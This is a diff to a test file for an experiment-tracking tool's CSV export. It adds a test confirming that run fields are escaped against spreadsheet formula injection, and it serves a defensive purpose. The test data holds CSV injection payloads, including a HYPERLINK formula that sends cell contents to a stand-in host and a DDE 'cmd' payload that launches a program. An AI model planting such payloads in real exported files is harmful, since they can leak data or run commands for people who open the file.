@@ -1,5 +1,6 @@
 import { assertEquals, assertStringIncludes } from "@std/assert";
 import { parquetReadObjects } from "npm:hyparquet@1.33.0";
+import { parseRecords } from "../../src/datasets/csv_parser.ts";
 import { addRun, emptyJournal } from "../record/filled.ts";
 import { nbtrack, nbtrackJson } from "./nbtrack.ts";
 
@@ -54,6 +55,55 @@ Deno.test("runs are exported as CSV that other programs read, a missing value un
   assertStringIncludes(one, ',5,"two\nlines",NaN,0.25,birds');
   const other = rows.find((row) => row.startsWith(made.second)) ?? "";
   assertEquals(other.endsWith(',"",,,Infinity,'), true, other);
+});
+
+Deno.test("no text of a run is a formula in its CSV, each can be had back, and other formats have it as it was", async () => {
+  using made = emptyJournal();
+  const texts = [
+    `=HYPERLINK("http://h/?"&A1,"x")`,
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\uff1d1+1",
+    "'=1",
+    "-0.5",
+    "+1e-3",
+    "plain",
+    "'tis",
+  ];
+  for (const text of texts) {
+    addRun(made.journal, {
+      name: text,
+      experiment: text,
+      params: { p: text },
+      tags: { "=t": text },
+    });
+  }
+  await nbtrackJson(["export", "runs.csv"], made);
+  const csv = await Deno.readTextFile(`${made.home}/runs.csv`);
+  const [head = [], ...rows] = parseRecords(
+    csv.replaceAll("\r\n", "\n"),
+    { delimiter: "," },
+    true,
+  ).data;
+  const column = head.indexOf("params.p");
+  const stored = rows.filter((row) => row.length > 1).map((row) => row[column]);
+  for (const field of [...head, ...rows.flat()]) {
+    assertEquals(
+      /^[=+\-@\t\uff1d]/.test(field) && !Number.isFinite(Number(field)),
+      false,
+      field,
+    );
+  }
+  assertEquals(
+    stored.map((text) => text?.replace(/^'(?='*[=+\-@\t\uff1d])/, "")).sort(),
+    texts.toSorted(),
+  );
+  await nbtrackJson(["export", "runs.jsonl"], made);
+  const lines = (await Deno.readTextFile(`${made.home}/runs.jsonl`))
+    .trimEnd().split("\n").map((line) => JSON.parse(line)["params.p"]);
+  assertEquals(lines.sort(), texts.toSorted());
 });
 
 Deno.test("runs are exported as JSON Lines and Parquet with the same values", async () => {
